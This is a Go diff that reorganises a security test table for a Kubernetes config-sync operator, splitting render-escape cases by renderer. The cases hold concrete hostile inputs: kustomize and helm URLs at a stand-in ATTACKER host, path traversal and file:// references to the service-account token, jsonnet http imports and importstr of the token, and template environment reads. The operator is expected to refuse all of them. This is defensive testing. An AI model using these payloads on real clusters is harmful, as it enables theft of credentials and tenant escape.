@@ -63,18 +63,23 @@ type tenantEscape struct {
 	message  string
 }
 
+// tenantEscapes lists the escapes renderer by renderer, in the order
+// docs/reliability.md records them.
 func tenantEscapes() []tenantEscape {
+	var escapes []tenantEscape
+	escapes = append(escapes, kustomizeEscapes()...)
+	escapes = append(escapes, helmEscapes()...)
+	escapes = append(escapes, jsonnetEscapes()...)
+	escapes = append(escapes, templateEscapes()...)
+	escapes = append(escapes, sopsEscapes()...)
+	return escapes
+}
+
+// kustomizeEscapes aim every field kustomize would fetch a URL for at the
+// attacker.
+func kustomizeEscapes() []tenantEscape {
 	kustomize := func(cs *configsv1.ConfigSync) {
 		cs.Spec.Render = []configsv1.RenderStep{{Kustomize: &configsv1.KustomizeStep{Path: "."}}}
-	}
-	helm := func(cs *configsv1.ConfigSync) {
-		cs.Spec.Render = []configsv1.RenderStep{{Helm: &configsv1.HelmStep{Chart: "chart"}}}
-	}
-	jsonnet := func(cs *configsv1.ConfigSync) {
-		cs.Spec.Render = []configsv1.RenderStep{{Jsonnet: &configsv1.JsonnetStep{Entrypoint: "main.jsonnet"}}}
-	}
-	template := func(cs *configsv1.ConfigSync) {
-		cs.Spec.Render = []configsv1.RenderStep{{Template: &configsv1.TemplateStep{}}}
 	}
 	cm := manifest("ConfigMap", "ok", "data: {a: b}\n")
 	kust := func(k string) func(string) map[string]string {
@@ -83,21 +88,7 @@ func tenantEscapes() []tenantEscape {
 		}
 	}
 	const refused = "renders may not reach the network"
-	chart := func(extra map[string]string) func(string) map[string]string {
-		return func(host string) map[string]string {
-			files := map[string]string{
-				"chart/Chart.yaml":        "apiVersion: v2\nname: app\nversion: 0.1.0\n",
-				"chart/values.yaml":       "a: b\n",
-				"chart/templates/cm.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: chart}\ndata: {a: {{ .Values.a }}}\n",
-			}
-			for k, v := range extra {
-				files[k] = strings.ReplaceAll(v, "ATTACKER", host)
-			}
-			return files
-		}
-	}
 	return []tenantEscape{
-		// Kustomize: every field kustomize would fetch a URL for.
 		{name: "kustomize resource URL", files: kust("resources:\n- http://ATTACKER/base.yaml\n"), spec: kustomize, reason: configsv1.ReasonRenderFailed, message: refused},
 		{name: "kustomize base URL", files: kust("bases:\n- http://ATTACKER/base\n"), spec: kustomize, reason: configsv1.ReasonRenderFailed, message: refused},
 		{name: "kustomize component URL", files: kust("resources: [cm.yaml]\ncomponents:\n- http://ATTACKER/component\n"), spec: kustomize, reason: configsv1.ReasonRenderFailed, message: refused},
@@ -112,7 +103,27 @@ func tenantEscapes() []tenantEscape {
 		{name: "kustomize configurations URL", files: kust("resources: [cm.yaml]\nconfigurations:\n- http://ATTACKER/config.yaml\n"), spec: kustomize, reason: configsv1.ReasonRenderFailed, message: refused},
 		{name: "kustomize transformer URL", files: kust("resources: [cm.yaml]\ntransformers:\n- http://ATTACKER/transformer.yaml\n"), spec: kustomize, reason: configsv1.ReasonRenderFailed, message: refused},
 		{name: "kustomize resource outside the repository", files: kust("resources:\n- ../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token\n"), spec: kustomize, reason: configsv1.ReasonRenderFailed, message: "render step 1 (kustomize)"},
-		// Helm
+	}
+}
+
+func helmEscapes() []tenantEscape {
+	helm := func(cs *configsv1.ConfigSync) {
+		cs.Spec.Render = []configsv1.RenderStep{{Helm: &configsv1.HelmStep{Chart: "chart"}}}
+	}
+	chart := func(extra map[string]string) func(string) map[string]string {
+		return func(host string) map[string]string {
+			files := map[string]string{
+				"chart/Chart.yaml":        "apiVersion: v2\nname: app\nversion: 0.1.0\n",
+				"chart/values.yaml":       "a: b\n",
+				"chart/templates/cm.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: chart}\ndata: {a: {{ .Values.a }}}\n",
+			}
+			for k, v := range extra {
+				files[k] = strings.ReplaceAll(v, "ATTACKER", host)
+			}
+			return files
+		}
+	}
+	return []tenantEscape{
 		{name: "helm schema $ref over http", files: chart(map[string]string{"chart/values.schema.json": `{"$ref": "http://ATTACKER/schema.json"}`}), spec: helm, reason: configsv1.ReasonRenderFailed, message: "refused"},
 		{name: "helm schema $ref to the operator's disk", files: chart(map[string]string{"chart/values.schema.json": `{"$ref": "file:///var/run/secrets/kubernetes.io/serviceaccount/token"}`}), spec: helm, reason: configsv1.ReasonRenderFailed, message: "refused"},
 		// Remote charts go only to the hosts the admin allows (the suite
@@ -122,21 +133,39 @@ func tenantEscapes() []tenantEscape {
 		{name: "helm chart repoURL off the allowlist", files: chart(nil), hostSpec: func(cs *configsv1.ConfigSync, host string) {
 			cs.Spec.Render = []configsv1.RenderStep{{Helm: &configsv1.HelmStep{RepoURL: "http://" + localhost(host) + "/charts", Chart: "app"}}}
 		}, reason: charts.ReasonChartHostNotAllowed, message: "not in the operator's allowed chart hosts"},
-		// Jsonnet
+	}
+}
+
+func jsonnetEscapes() []tenantEscape {
+	jsonnet := func(cs *configsv1.ConfigSync) {
+		cs.Spec.Render = []configsv1.RenderStep{{Jsonnet: &configsv1.JsonnetStep{Entrypoint: "main.jsonnet"}}}
+	}
+	return []tenantEscape{
 		{name: "jsonnet import over http", files: func(host string) map[string]string {
 			return map[string]string{"main.jsonnet": `import "http://` + host + `/lib.libsonnet"`}
 		}, spec: jsonnet, reason: configsv1.ReasonRenderFailed, message: "render step 1 (jsonnet)"},
 		{name: "jsonnet importstr of the operator's token", files: func(string) map[string]string {
 			return map[string]string{"main.jsonnet": `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "t"}, data: {t: importstr "/var/run/secrets/kubernetes.io/serviceaccount/token"}}`}
 		}, spec: jsonnet, reason: configsv1.ReasonRenderFailed, message: "render step 1 (jsonnet)"},
-		// Templates
+	}
+}
+
+func templateEscapes() []tenantEscape {
+	template := func(cs *configsv1.ConfigSync) {
+		cs.Spec.Render = []configsv1.RenderStep{{Template: &configsv1.TemplateStep{}}}
+	}
+	return []tenantEscape{
 		{name: "template resolves the attacker's host", files: func(host string) map[string]string {
 			return map[string]string{"h.yaml": `a: {{ getHostByName "` + strings.Split(host, ":")[0] + `" }}`}
 		}, spec: template, reason: configsv1.ReasonRenderFailed, message: "getHostByName"},
 		{name: "template reads the operator's environment", files: func(string) map[string]string {
 			return map[string]string{"e.yaml": `a: {{ env "KUBERNETES_SERVICE_HOST" }}{{ expandenv "$HOME" }}`}
 		}, spec: template, reason: configsv1.ReasonRenderFailed, message: "env"},
-		// SOPS
+	}
+}
+
+func sopsEscapes() []tenantEscape {
+	return []tenantEscape{
 		{name: "sops file for a Vault key at the attacker", files: func(host string) map[string]string {
 			return map[string]string{"secret.yaml": vaultOnlySops(host)}
 		}, spec: func(cs *configsv1.ConfigSync) {
